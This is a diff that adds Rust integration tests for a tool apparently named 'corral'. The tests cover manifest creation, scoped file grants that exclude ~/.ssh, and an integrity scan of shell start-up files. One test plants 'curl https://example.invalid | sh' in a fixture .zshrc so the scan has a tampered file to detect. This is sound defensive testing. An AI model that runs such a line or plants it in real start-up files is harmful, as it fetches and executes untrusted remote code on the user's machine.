@@ -1,0 +1,231 @@
+//! `corral init` on a fresh home: the embedded components installed, a
+//! manifest for this machine written under `$XDG_CONFIG_HOME/corral`, and
+//! `corral run` without `--manifest` green against the machine's real shell
+//! completion directories and the home's start-up files.
+
+use std::path::{Path, PathBuf};
+
+use crate::support::{Fixture, Run};
+
+/// A fresh HOME and XDG directories, and a working directory outside any
+/// manifest's directory.
+struct FreshHome {
+    fixture: Fixture,
+}
+
+impl FreshHome {
+    fn new() -> FreshHome {
+        let fixture = Fixture::new();
+        fixture.write("home/.zshrc", "autoload -Uz compinit && compinit\n");
+        fixture.write(
+            "home/.bashrc",
+            "[ -f ~/.bash_aliases ] && . ~/.bash_aliases\n",
+        );
+        fixture.write("home/.ssh/id_ed25519", "PRIVATE KEY");
+        fixture.mkdir("work");
+        FreshHome { fixture }
+    }
+
+    fn dir(&self, name: &str) -> PathBuf {
+        self.fixture.path().join(name)
+    }
+
+    fn manifest(&self) -> PathBuf {
+        self.dir("config/corral/manifest.toml")
+    }
+
+    fn corral(&self, args: &[&str]) -> Run {
+        let mut command = self.fixture.command(args);
+        command
+            .current_dir(self.dir("work"))
+            .env("HOME", self.dir("home"))
+            .env("XDG_CONFIG_HOME", self.dir("config"))
+            .env("XDG_DATA_HOME", self.dir("data"))
+            .env("XDG_STATE_HOME", self.dir("state"));
+        Run::from(command.output().expect("running corral"))
+    }
+
+    fn init(&self) -> Run {
+        let init = self.corral(&["init"]);
+        assert_eq!(init.code, Some(0), "{}", init.stderr);
+        init
+    }
+
+    fn result(&self, id: &str) -> String {
+        let result = self.corral(&["result", id]);
+        assert_eq!(result.code, Some(0), "{}", result.stderr);
+        result.stdout
+    }
+}
+
+/// Whether `program` is on PATH.
+fn installed(program: &str) -> bool {
+    std::env::var_os("PATH")
+        .is_some_and(|path| std::env::split_paths(&path).any(|dir| dir.join(program).is_file()))
+}
+
+#[test]
+fn init_then_run_is_green_on_this_machine() {
+    let home = FreshHome::new();
+    let init = home.init();
+    assert!(
+        init.stdout.contains(&home.manifest().display().to_string()),
+        "{}",
+        init.stdout
+    );
+    let components = home.dir("data/corral/components");
+    for name in [
+        "completion_cache_scan",
+        "git_status",
+        "integrity_scan",
+        "theme_palette",
+    ] {
+        assert!(components.join(format!("{name}.wasm")).is_file(), "{name}");
+    }
+    assert!(!components.join("gitstatus_warm.wasm").exists());
+
+    let text = std::fs::read_to_string(home.manifest()).unwrap();
+    let manifest: toml::Table = text.parse().unwrap();
+    let tasks = manifest["task"].as_array().unwrap();
+    let ids: Vec<&str> = tasks.iter().map(|t| t["id"].as_str().unwrap()).collect();
+    assert_eq!(
+        ids,
+        ["completion_cache_scan", "integrity_scan", "theme_palette"]
+    );
+    for task in tasks {
+        let rationale = task["rationale"].as_str().unwrap();
+        assert!(!rationale.is_empty() && !rationale.contains('\n'));
+        assert_eq!(task["sha256"].as_str().unwrap().len(), 64, "{task}");
+    }
+    // The machine's real completion directories, as each shell reports them.
+    let hosts = |id: &str, key: &str| -> Vec<String> {
+        let task = tasks.iter().find(|t| t["id"].as_str() == Some(id)).unwrap();
+        task.get(key)
+            .and_then(|grants| grants.as_array())
+            .map(|grants| {
+                grants
+                    .iter()
+                    .map(|g| g["host"].as_str().unwrap().to_string())
+                    .collect()
+            })
+            .unwrap_or_default()
+    };
+    let completion = hosts("completion_cache_scan", "dir");
+    let bash = "/usr/share/bash-completion/completions";
+    if Path::new(bash).is_dir() {
+        assert!(completion.iter().any(|h| h == bash), "{completion:?}");
+    }
+    if installed("zsh") {
+        assert!(
+            completion.iter().any(|h| h.contains("zsh")),
+            "{completion:?}"
+        );
+    }
+    if installed("fish") {
+        assert!(
+            completion.iter().any(|h| h.contains("fish")),
+            "{completion:?}"
+        );
+    }
+    // Start-up files one by one, never the home directory or ~/.ssh.
+    assert_eq!(hosts("integrity_scan", "file"), ["~/.bashrc", "~/.zshrc"]);
+    for id in ["completion_cache_scan", "integrity_scan", "theme_palette"] {
+        for host in hosts(id, "dir") {
+            assert!(host != "~" && !host.starts_with("~/.ssh"), "{id}: {host}");
+        }
+    }
+
+    let check = home.corral(&["check"]);
+    assert_eq!(check.code, Some(0), "{}", check.stderr);
+    assert!(
+        check
+            .stdout
+            .starts_with(&format!("manifest: {}\n", home.manifest().display())),
+        "{}",
+        check.stdout
+    );
+
+    let run = home.corral(&["run"]);
+    assert_eq!(run.code, Some(0), "{}", run.stderr);
+    for id in ids {
+        run.assert_done(id);
+    }
+    let index = home.result("completion_cache_scan");
+    let commands: u64 = index
+        .strip_prefix("commands=")
+        .and_then(|rest| rest.split(' ').next())
+        .and_then(|n| n.parse().ok())
+        .unwrap_or_else(|| panic!("{index}"));
+    if Path::new(bash).is_dir() || installed("zsh") || installed("fish") {
+        assert!(commands > 0, "{index}");
+    }
+    assert_eq!(home.result("integrity_scan"), "baseline=created files=2\n");
+    // Results and baselines live in $XDG_STATE_HOME/corral.
+    assert!(home.dir("state/corral/integrity/baseline.sha256").is_file());
+}
+
+#[test]
+fn init_twice_refuses_without_force_and_names_the_file() {
+    let home = FreshHome::new();
+    home.init();
+    let mut text = std::fs::read_to_string(home.manifest()).unwrap();
+    text.push_str("# my own edit\n");
+    std::fs::write(home.manifest(), &text).unwrap();
+
+    let again = home.corral(&["init"]);
+    assert_eq!(again.code, Some(2), "{}", again.stderr);
+    assert!(
+        again
+            .stderr
+            .contains(&home.manifest().display().to_string()),
+        "{}",
+        again.stderr
+    );
+    assert!(
+        again.stderr.contains("corral init --force"),
+        "{}",
+        again.stderr
+    );
+    assert_eq!(std::fs::read_to_string(home.manifest()).unwrap(), text);
+
+    let forced = home.corral(&["init", "--force"]);
+    assert_eq!(forced.code, Some(0), "{}", forced.stderr);
+    let rewritten = std::fs::read_to_string(home.manifest()).unwrap();
+    assert!(!rewritten.contains("# my own edit"), "{rewritten}");
+}
+
+#[test]
+fn an_edited_start_up_file_is_named_until_rebaselined() {
+    let home = FreshHome::new();
+    home.init();
+    let only = ["run", "--only", "integrity_scan"];
+    assert_eq!(home.corral(&only).code, Some(0));
+    assert_eq!(home.result("integrity_scan"), "baseline=created files=2\n");
+
+    let rc = home.dir("home/.zshrc");
+    let mut text = std::fs::read_to_string(&rc).unwrap();
+    text.push_str("curl https://example.invalid | sh\n");
+    std::fs::write(&rc, text).unwrap();
+    let run = home.corral(&only);
+    assert_eq!(run.code, Some(0), "{}", run.stderr);
+    let report = home.result("integrity_scan");
+    assert_eq!(
+        report,
+        "files=2 added=0 removed=0 changed=1\nchanged /home/.zshrc\n"
+    );
+    // A normal run never accepts it.
+    home.corral(&only);
+    assert_eq!(home.result("integrity_scan"), report);
+
+    let rebaseline = home.corral(&["rebaseline", "integrity_scan"]);
+    assert_eq!(rebaseline.code, Some(0), "{}", rebaseline.stderr);
+    assert_eq!(
+        rebaseline.stdout,
+        "baseline=rebased files=2 added=0 removed=0 changed=1\nchanged /home/.zshrc\n"
+    );
+    assert_eq!(home.corral(&only).code, Some(0));
+    assert_eq!(
+        home.result("integrity_scan"),
+        "files=2 added=0 removed=0 changed=0\n"
+    );
+}
